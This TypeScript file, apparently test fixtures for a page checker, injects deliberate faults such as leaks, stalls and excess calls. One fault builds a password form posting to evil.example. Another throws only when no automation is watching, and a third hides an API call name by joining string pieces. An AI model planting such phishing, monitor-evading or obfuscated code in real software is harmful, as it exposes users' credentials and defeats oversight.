import type { Kind } from '../kind';
import type { Probe } from '../probe';

const code = (statements: Partial<Probe['code']>) => (probe: Probe) => Object.assign(probe.code, statements);

/** Faults that show only in use: late, on another screen, in another language, after many openings, behind a press. */
export const useKinds: readonly Kind[] = [
  {
    name: 'only on a phone',
    wrong: 'throws only on a narrow screen',
    files: [],
    run: ['failure'],
    spoil: code({ effect: 'if(innerWidth<600)throw new Error("narrow")' }),
  },
  {
    name: 'only in Russian',
    wrong: 'throws only in Russian',
    files: [],
    run: ['failure'],
    spoil: code({ effect: 'if(document.documentElement.lang.startsWith("ru"))throw new Error("ru")' }),
  },
  {
    name: 'only late',
    wrong: 'throws after five seconds',
    files: [],
    run: ['failure'],
    spoil: code({
      effect: 'const t=setTimeout(()=>{throw new Error("late")},5000)',
      leave: 'clearTimeout(t)',
    }),
  },
  {
    name: 'only unwatched',
    wrong: 'throws only where no program drives the browser',
    files: [],
    run: ['failure'],
    spoil: code({ effect: 'if(!navigator.webdriver)throw new Error("unwatched")' }),
  },
  {
    name: 'behind a press',
    wrong: 'throws when its button is pressed',
    files: [],
    run: ['failure'],
    spoil: code({
      effect:
        'const b=document.querySelector(".probe-page button"),f=()=>{throw new Error("pressed")};b.addEventListener("click",f)',
      leave: 'b.removeEventListener("click",f)',
    }),
  },
  {
    name: 'behind a press, later',
    wrong: 'leaves a promise rejected when its button is pressed',
    files: [],
    run: ['failure'],
    spoil: code({
      effect:
        'const b=document.querySelector(".probe-page button"),f=async()=>{throw new Error("rejected")};b.addEventListener("click",f)',
      leave: 'b.removeEventListener("click",f)',
    }),
  },
  {
    name: 'kept memory',
    wrong: 'keeps half a megabyte with each opening',
    files: [],
    run: ['cleanup'],
    spoil: code({ module: 'const kept=[]', effect: 'kept.push(Array.from({length:65536},(_,i)=>i*1.5))' }),
  },
  {
    name: 'kept nodes',
    wrong: 'keeps the nodes of each opening',
    files: [],
    run: ['cleanup'],
    spoil: code({
      module: 'const kept=[]',
      effect: 'for(let i=0;i<200;i++)kept.push(document.createElement("i"))',
    }),
  },
  {
    name: 'endless frames',
    wrong: 'asks for frames for ever',
    files: [],
    run: ['cleanup'],
    spoil: code({ effect: 'const f=()=>requestAnimationFrame(f);f()' }),
  },
  {
    name: 'endless timers',
    wrong: 'starts a timer after each timer',
    files: [],
    run: ['cleanup'],
    spoil: code({ effect: 'const f=()=>setTimeout(f,100);f()' }),
  },
  {
    name: 'kept observer',
    wrong: 'observes the page for ever',
    files: [],
    run: ['cleanup'],
    spoil: code({ effect: 'new MutationObserver(()=>{}).observe(document.body,{childList:true,subtree:true})' }),
  },
  {
    name: 'stalls',
    wrong: 'holds the page for 0.6 s at a stretch',
    files: [],
    run: ['long-task'],
    spoil: code({ effect: 'const end=performance.now()+600;while(performance.now()<end);' }),
  },
  {
    name: 'unnamed control',
    wrong: 'has a button without a name',
    files: [],
    run: ['name'],
    spoil: code({ effect: 'document.querySelector(".probe-page button").textContent=""' }),
  },
  {
    name: 'password elsewhere',
    wrong: 'asks for a password for another origin',
    files: ['foreign-origin'],
    run: ['foreign-origin'],
    spoil: code({
      effect:
        'const f=document.createElement("form"),i=document.createElement("input");f.action="https://evil.example/";i.type="password";i.ariaLabel="Password";f.append(i);document.querySelector(".probe-page").append(f)',
    }),
  },
  {
    name: 'many calls',
    wrong: 'asks the backend 200 times when it is opened',
    files: [],
    run: ['calls'],
    spoil: (probe) => {
      Object.assign(probe.given, { calls: ['content/articles'] });
      code({
        render:
          'const api=sdk.useApi();react.useEffect(()=>{for(let i=0;i<200;i++)void api.call("content/articles",{kind:"news",language:"EN"})},[])',
      })(probe);
    },
  },
  {
    name: 'unnamed call in pieces',
    wrong: 'puts the name of a call together that its description does not name',
    files: [],
    run: ['failure'],
    spoil: code({
      render:
        'const api=sdk.useApi();react.useEffect(()=>void api.call(["content","articles"].join("/"),{kind:"news"}),[])',
    }),
  },
  {
    name: 'kept buffers',
    wrong: 'keeps 5 MB in a typed array with each opening',
    files: [],
    run: ['cleanup'],
    spoil: code({ module: 'const kept=[]', effect: 'kept.push(new Float64Array(650000).fill(1))' }),
  },
  {
    name: 'kept canvases',
    wrong: 'keeps a canvas with each opening',
    files: [],
    run: ['cleanup'],
    spoil: code({
      module: 'const kept=[]',
      effect:
        'const c=document.createElement("canvas");c.width=c.height=1000;c.getContext("2d").fillRect(0,0,9,9);kept.push(c)',
    }),
  },
  {
    name: 'asks all the time',
    wrong: 'asks the backend each 50 ms',
    files: [],
    run: ['calls'],
    spoil: (probe) => {
      Object.assign(probe.given, { calls: ['content/articles'] });
      code({
        render:
          'const api=sdk.useApi();react.useEffect(()=>{const t=setInterval(()=>void api.call("content/articles",{kind:"news",language:"EN"}).catch(()=>{}),50);return()=>clearInterval(t)},[])',
      })(probe);
    },
  },
  {
    name: 'asks each second',
    wrong: 'asks the backend a second after each answer',
    files: [],
    run: ['calls'],
    spoil: (probe) => {
      Object.assign(probe.given, { calls: ['content/articles'] });
      code({
        render:
          'const api=sdk.useApi();react.useEffect(()=>{let t;const ask=async()=>{await api.call("content/articles",{kind:"news",language:"EN"}).catch(()=>{});t=setTimeout(ask,1000)};void ask();return()=>clearTimeout(t)},[])',
      })(probe);
    },
  },
  {
    name: 'heavy section',
    wrong: 'puts 3 MB of text on the home page',
    files: [],
    run: ['size'],
    spoil: code({
      section:
        'const[text,set]=react.useState("Probe");react.useEffect(()=>set("Probe ".repeat(500000)),[]);return h("div",{className:"probe-section"},text)',
    }),
  },
];
